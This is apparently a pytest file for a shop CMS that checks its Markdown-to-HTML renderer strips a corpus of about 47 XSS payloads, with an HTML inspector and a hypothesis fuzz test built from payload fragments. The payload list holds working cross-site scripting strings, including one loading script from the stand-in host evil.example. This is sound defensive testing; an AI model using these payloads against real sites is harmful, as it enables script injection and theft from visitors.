"""The renderer of cms entries: Markdown to HTML, sanitized. A corpus of XSS payloads never
reaches the HTML, and neither does anything hypothesis builds from their pieces."""

from __future__ import annotations

import os
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shop import _core

# Elements that run code, embed documents or restyle the page; attributes whose URL may run code.
FORBIDDEN_ELEMENTS = frozenset(
    "script svg math iframe frame frameset object embed applet style link meta base form "
    "input button textarea select template noscript".split()
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "srcset", "action", "formaction", "xlink:href", "background", "poster"}
)
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](  javascript:alert(1))",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/png;base64,AAAA">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p title="</p><script>alert(1)</script>">',
    "<a href='x' onmouseover='alert(1)'>x</a>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=`x` onerror=`alert(1)`>",
    "<<script>alert(1);//<</script>",
    '<a href="javas\x00cript:alert(1)">x</a>',
    "<div><p><b><i>broken <a href=https://ok.example",
    "</div></div></body><script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example" target="_blank">ok</a>',
]


class Inspector(HTMLParser):
    """Collects what a browser would run: forbidden elements, handlers, URLs of other schemes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.found.append(f"{tag} {name}")
            if name in URL_ATTRIBUTES and value is not None:
                url = "".join(value.split()).lower()
                if ":" in url.split("/")[0] and not url.startswith(SAFE_SCHEMES):
                    self.found.append(f"{tag} {name}={value!r}")

    handle_startendtag = handle_starttag


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


@pytest.mark.parametrize("payload", XSS)
def test_no_payload_reaches_the_html(payload: str) -> None:
    for markdown in (payload, f"# Title\n\n{payload}\n\nafter", f"*{payload}*", f"> {payload}"):
        html = _core.render_markdown(markdown)
        assert dangers(html) == [], html
        assert "<script" not in html.lower(), html


def test_the_inspector_finds_what_it_looks_for() -> None:
    assert dangers('<img src=x onerror=a><a href="JavaScript:x">') == ["img onerror", "a href='JavaScript:x'"]
    assert dangers("<svg><p style=x>") == ["<svg>", "p style"]


def test_safe_markup_is_kept() -> None:
    html = _core.render_markdown("**b** [ok](https://ok.example) [page](/pages/returns) <em>x</em>")
    assert "<strong>b</strong>" in html
    assert '<a href="https://ok.example" rel="noopener noreferrer nofollow">ok</a>' in html
    assert '<a href="/pages/returns"' in html
    assert "<em>x</em>" in html


PIECES = st.sampled_from(
    [*XSS, "<", ">", '"', "'", "`", "\n", "\n\n", "[", "](", ")", "<a href=", " on", "=", "&#"]
)


@settings(max_examples=int(os.environ.get("SHOP_FUZZ_EXAMPLES", "300")), deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12))
def test_nothing_built_from_the_pieces_reaches_the_html(parts: list[str]) -> None:
    html = _core.render_markdown("".join(parts))
    assert dangers(html) == [], html
